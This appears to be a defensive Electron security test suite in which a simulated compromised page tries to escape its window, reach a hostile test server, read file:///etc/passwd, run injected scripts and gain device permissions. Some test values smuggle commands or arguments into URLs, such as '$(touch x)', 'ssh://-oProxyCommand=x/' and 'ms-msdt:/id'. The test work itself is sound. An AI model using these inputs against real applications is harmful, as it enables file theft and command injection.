import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type Desktop, hasElectron, startDesktop } from '../fixtures/desktop.ts';
import { type Display, startDisplay } from '../fixtures/display.ts';
import { type HostileSite, startHostileSite } from '../support/hostile-site.ts';
import { type House, startHouse } from '../support/house.ts';

// What a page that has been taken over may try with the desktop window around it. Everything runs in the real page of the real window.

const webRoot = join(import.meta.dirname, '../../dist/renderer');

const pause = (): Promise<unknown> => new Promise((resolve) => setTimeout(resolve, 300));

describe.skipIf(!hasElectron)('the page of the desktop window', () => {
  let display: Display;
  let house: House;
  let desktop: Desktop;
  let hostile: HostileSite;
  let evil = '';
  /** Requests that reached the hostile server. */
  let reached: string[] = [];

  beforeAll(async () => {
    hostile = await startHostileSite((request, response) => {
      reached.push(request.url!);
      response.setHeader('access-control-allow-origin', '*');
    });
    evil = hostile.origin;
    [display, house] = await Promise.all([startDisplay(), startHouse(webRoot)]);
    const home = join(house.data, 'home');
    mkdirSync(join(home, 'Downloads'), { recursive: true });
    desktop = await startDesktop({ data: house.data, display, switches: ['--disable-gpu'], environment: { HOME: home } });
    await desktop.page.getByRole('row', { name: /orchard-api/ }).waitFor();
  });
  afterAll(async () => {
    await desktop?.close();
    await house?.stop();
    await display?.stop();
    hostile?.stop();
  });
  beforeEach(() => {
    reached = [];
  });

  const run = <T>(code: string): Promise<T> => desktop.page.evaluate<T>(code);

  /** The page is where it was, and alive; nothing else has come to be. */
  async function expectUnmoved(what: string): Promise<void> {
    await pause();
    const windows = await desktop.app.evaluate(({ webContents }) => webContents.getAllWebContents().map((contents) => contents.getURL()));
    expect([what, windows.map((url) => url.replace(/#.*/, ''))]).toEqual([what, ['app://forgehold/index.html']]);
    expect([what, await desktop.page.getByRole('row', { name: /orchard-api/ }).count()]).toEqual([what, 1]);
    expect([what, reached]).toEqual([what, []]);
    expect([what, desktop.opened()]).toEqual([what, []]);
  }

  it('can be left neither by script, link, form nor refresh', { timeout: 120_000 }, async () => {
    const addresses = [
      evil,
      'file:///etc/passwd',

      'data:text/html,<h1>x',
      'blob:app://forgehold/x',
      'app://other/index.html',
      'app://forgehold/assets/x.js',
    ];
    for (const address of [
      ...addresses,
      'mailto:a@b.example',
      'forgehold://quit',
      'javascript:document.body.remove()',
      'chrome://gpu',
      'devtools://devtools/x.html',
      'ftp://x.example/',
    ]) {
      const target = JSON.stringify(address);
      await run(`void setTimeout(() => { location.href = ${target}; })`);
      await expectUnmoved(`location ${address}`);
      await run(
        `(() => { const link = Object.assign(document.createElement('a'), { href: ${target} }); document.body.append(link); link.click(); link.remove(); })()`,
      );
      await expectUnmoved(`link ${address}`);
    }
    await run(
      `(() => { const form = Object.assign(document.createElement('form'), { action: '${evil}/form', method: 'post' }); document.body.append(form); form.submit(); form.remove(); })()`,
    );
    await expectUnmoved('form');
    await run(
      `(() => { const tag = document.createElement('meta'); tag.httpEquiv = 'refresh'; tag.content = '0;url=${evil}/refresh'; document.head.append(tag); })()`,
    );
    await expectUnmoved('refresh');
    expect(await run("'forgehold' in window")).toBe(true);
  });

  it('opens no other window, by script or by link with any target', async () => {
    for (const address of [evil, 'about:blank', 'file:///etc/passwd', 'app://forgehold/index.html', 'javascript:1', 'https://forge.example/']) {
      expect([address, await run(`window.open(${JSON.stringify(address)}, '_blank', 'nodeIntegration=yes,contextIsolation=no') === null`)]).toEqual([
        address,
        true,
      ]);
      await run(`(() => { const link = Object.assign(document.createElement('a'), { href: ${JSON.stringify(address)}, target: 'other' }); document.body.append(link); link.click();
        link.dispatchEvent(new MouseEvent('click', { button: 1, bubbles: true })); link.dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true })); link.remove(); })()`);
      await expectUnmoved(`window ${address}`);
    }
  });

  it('embeds no other page, plugin or webview', async () => {
    const tags = [
      `<iframe src="${evil}/frame"></iframe>`,
      `<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>`,
      `<iframe src="data:text/html,x"></iframe>`,
      `<iframe src="app://forgehold/index.html"></iframe>`,
      `<iframe src="file:///etc/passwd"></iframe>`,
      `<object data="${evil}/object"></object>`,
      `<embed src="${evil}/embed">`,
      `<webview src="${evil}/webview" nodeintegration></webview>`,
    ];
    for (const tag of tags) {
      await run(
        `(() => { const box = Object.assign(document.createElement('div'), { id: 'box', innerHTML: ${JSON.stringify(tag)} }); document.body.append(box); })()`,
      );
      await pause();
      const inside = await run<string>(
        `(() => { try { return document.querySelector('#box iframe')?.contentDocument?.body?.textContent ?? ''; } catch { return ''; } })()`,
      );
      expect([tag, inside, await run('window.owned ?? 0')]).toEqual([tag, '', 0]);
      await run("document.querySelector('#box').remove()");
      await expectUnmoved(tag);
    }
  });

  it('loads and runs only what the app brings, and talks to nobody', async () => {
    const tried = await run<Record<string, string>>(`(async () => {
      const outcome = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 3000, 'silence'))]).then(() => 'done', () => 'refused');
      const load = (tag, parts) => new Promise((resolve, reject) => {
        const element = Object.assign(document.createElement(tag), parts);
        element.onload = resolve; element.onerror = reject;
        document.head.append(element);
      });
      const inline = () => { const script = document.createElement('script'); script.textContent = 'window.owned = 1'; document.head.append(script); return window.owned ? Promise.resolve() : Promise.reject(new Error('blocked')); };
      const socket = () => new Promise((resolve, reject) => { const own = new WebSocket('${evil.replace('http', 'ws')}/socket'); own.onopen = resolve; own.onerror = reject; });
      const evalIt = async () => (0, eval)('1');
      return {
        own: await outcome(fetch('/index.html')),
        fetch: await outcome(fetch('${evil}/fetch')),
        file: await outcome(fetch('file:///etc/passwd')),
        beacon: navigator.sendBeacon('${evil}/beacon') ? 'sent' : 'refused',
        socket: await outcome(socket()),
        events: await outcome(new Promise((resolve, reject) => { const own = new EventSource('${evil}/events'); own.onopen = resolve; own.onerror = reject; })),
        script: await outcome(load('script', { src: '${evil}/script.js' })),
        inline: await outcome(inline()),
        eval: await outcome(evalIt()),
        image: await outcome(load('img', { src: '${evil}/image.png' })),
        style: await outcome(load('link', { rel: 'stylesheet', href: '${evil}/style.css' })),
        worker: await outcome(new Promise((resolve, reject) => { const own = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); own.onmessage = resolve; own.onerror = reject; })),
        serviceWorker: await outcome(navigator.serviceWorker ? navigator.serviceWorker.register('/assets/x.js') : Promise.reject(new Error('none'))),
      };
    })()`);
    const { own, beacon, ...rest } = tried;
    expect(own).toBe('done');
    expect(Object.entries(rest).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
    // A beacon that the policy stops is still said to be queued.
    expect(['sent', 'refused']).toContain(beacon);
    await expectUnmoved('loads');
  });

  it('is refused every permission but to write the clipboard', async () => {
    const names = [
      'geolocation',
      'notifications',
      'camera',
      'microphone',
      'midi',
      'clipboard-read',
      'persistent-storage',
      'background-sync',
      'screen-wake-lock',
      'idle-detection',
      'storage-access',
      'window-management',
      'local-fonts',
    ];
    const states = await run<Record<string, string>>(`(async () => Object.fromEntries(await Promise.all(${JSON.stringify(names)}.map(async (name) =>
      [name, await navigator.permissions.query({ name }).then((status) => status.state, () => 'unknown')]))))()`);
    expect(Object.entries(states).filter(([, state]) => state === 'granted')).toEqual([]);
    const asked = await run<Record<string, string>>(`(async () => {
      const outcome = (ask) => Promise.race([(async () => ask())(), new Promise((resolve) => setTimeout(resolve, 3000, 'silence'))]).then(String, () => 'refused');
      return {
        media: await outcome(() => navigator.mediaDevices.getUserMedia({ video: true, audio: true })),
        display: await outcome(() => navigator.mediaDevices.getDisplayMedia({ video: true })),
        midi: await outcome(() => navigator.requestMIDIAccess({ sysex: true })),
        place: await outcome(() => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
        read: await outcome(() => navigator.clipboard.readText()),
        usb: await outcome(() => navigator.usb.requestDevice({ filters: [] })),
        serial: await outcome(() => navigator.serial.requestPort()),
        hid: await outcome(async () => { if ((await navigator.hid.requestDevice({ filters: [] })).length === 0) throw new Error('none'); }),
        idle: await outcome(async () => { if ((await IdleDetector.requestPermission()) !== 'granted') throw new Error('denied'); }),
      };
    })()`);
    expect(Object.entries(asked).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
    expect(await run('Notification.requestPermission()')).toBe('denied');
    // A write also needs the focus, which no window has on a display without a window manager.
    expect(await run("navigator.permissions.query({ name: 'clipboard-write' }).then(({ state }) => state)")).toBe('granted');
  });

  it('downloads nothing', async () => {
    const saved = desktop.app.evaluate(
      ({ session }) =>
        new Promise<string>((resolve) => {
          session.defaultSession.once('will-download', (event, item) => resolve(`${String(event.defaultPrevented)} ${item.getState()}`));
          setTimeout(resolve, 5_000, 'none');
        }),
    );
    await run(
      `(() => { const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob(['owned'])); link.download = 'owned.txt'; document.body.append(link); link.click(); link.remove(); })()`,
    );
    expect(await saved).toMatch(/^(true|none)/);
    await run(
      `(() => { const link = document.createElement('a'); link.href = 'data:text/plain,owned'; link.download = 'owned.txt'; document.body.append(link); link.click(); link.remove(); })()`,
    );
    await expectUnmoved('download');
    expect(readdirSync(join(house.data, 'home/Downloads'))).toEqual([]);
    expect(existsSync(join(process.cwd(), 'owned.txt'))).toBe(false);
  });

  it('is not left when a file or a link is dropped on it', async () => {
    const file = join(house.data, 'dropped.html');
    writeFileSync(file, '<!doctype html><title>Dropped</title>');
    const session = await desktop.page.context().newCDPSession(desktop.page);
    for (const data of [
      { items: [], files: [file], dragOperationsMask: 1 },
      { items: [{ mimeType: 'text/uri-list', data: `${evil}/dropped` }], files: [], dragOperationsMask: 1 },
      { items: [{ mimeType: 'text/html', data: `<img src="${evil}/html.png">` }], files: [], dragOperationsMask: 1 },
    ]) {
      for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await session.send('Input.dispatchDragEvent', { type, x: 300, y: 500, data });
      await pause();
      await desktop.page.keyboard.press('Escape');
      await expectUnmoved(`drop of ${JSON.stringify(data)}`);
    }
    expect(await desktop.page.title()).not.toContain('Dropped');
  });

  it('has only whole http and https addresses opened, by the system’s own opener', async () => {
    const refused = [
      '',
      ' ',
      'forge.example',
      'file:///etc/passwd',
      'file://host/share',
      'javascript:alert(1)',
      'data:text/html,x',
      'app://forgehold/',
      'forgehold://open',
      'mailto:a@b.example',
    ];
    const sly = [
      'http://user:secret@forge.example/',
      'https://user@forge.example/',
      '--help',
      '-o/tmp/x',
      'smb://x/y',
      'ssh://-oProxyCommand=x/',
      'vscode://x',
      'ms-msdt:/id',
      '\u0000https://forge.example/',
      `https://${'a'.repeat(9000)}.example/`,
    ];
    for (const url of [...refused, ...sly]) {
      const answer = await run<{ ok: boolean }>(`window.forgehold.invoke('shell.openExternal', { url: ${JSON.stringify(url)} }, 5)`);
      expect([url, answer.ok && !desktop.opened().includes(url)]).toEqual([url, url.startsWith('\u0000')]);
    }
    // The last of them was opened, without its NUL: that is known some time after its answer.
    await expect.poll(() => desktop.opened(), { timeout: 10_000 }).toContain('https://forge.example/');
    const before = desktop.opened().length;
    const address = 'https://forge.example/a b?q=$(touch x)&r=`id`;"quoted"#end';
    expect(await run(`window.forgehold.invoke('shell.openExternal', { url: ${JSON.stringify(address)} }, 6)`)).toMatchObject({ ok: true });
    await expect.poll(() => desktop.opened().slice(before), { timeout: 10_000 }).toEqual([new URL(address).href]);
  });

  it('cannot end the app with a stream that speaks nonsense', async () => {
    for (const frame of [
      'new ArrayBuffer(0)',
      'new ArrayBuffer(3)',
      'new Uint8Array([255, 0, 0, 0, 0]).buffer',
      'new Uint8Array([1, 0, 0, 0, 0, 123]).buffer',
      'new Uint8Array([8, 0, 0, 0, 0, 123]).buffer',
      'new Uint8Array([7, 0, 0, 0, 0, 1]).buffer',
      'new Uint8Array(2 ** 22).buffer',
      '"text"',
      '{ a: 1 }',
      'null',
    ]) {
      await run(`new Promise((resolve) => {
        addEventListener('message', ({ ports: [port] }) => {
          port.start();
          for (let turn = 0; turn < 3; turn += 1) port.postMessage(${frame});
          setTimeout(() => { port.close(); resolve(); }, 100);
        }, { once: true });
        window.forgehold.openStream('workspaces.logs', { workspaceId: '1'.repeat(8), role: 'agent' }, 77);
      })`);
      expect([frame, await run<{ ok: boolean }>("window.forgehold.invoke('app.info', {}, 8)")]).toMatchObject([frame, { ok: true }]);
    }
    expect(desktop.output()).not.toMatch(/Uncaught|Unhandled/i);
    expect(await desktop.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
  });

  it('is loaded again when a script blanks it, which nobody is asked about', async () => {
    await run("void setTimeout(() => { location = 'about:blank' })");
    await desktop.page.waitForURL(/^app:/);
    await desktop.page.getByRole('row', { name: /orchard-api/ }).waitFor();
    expect(await run('Object.keys(window.forgehold).length')).toBeGreaterThan(0);
  });
});
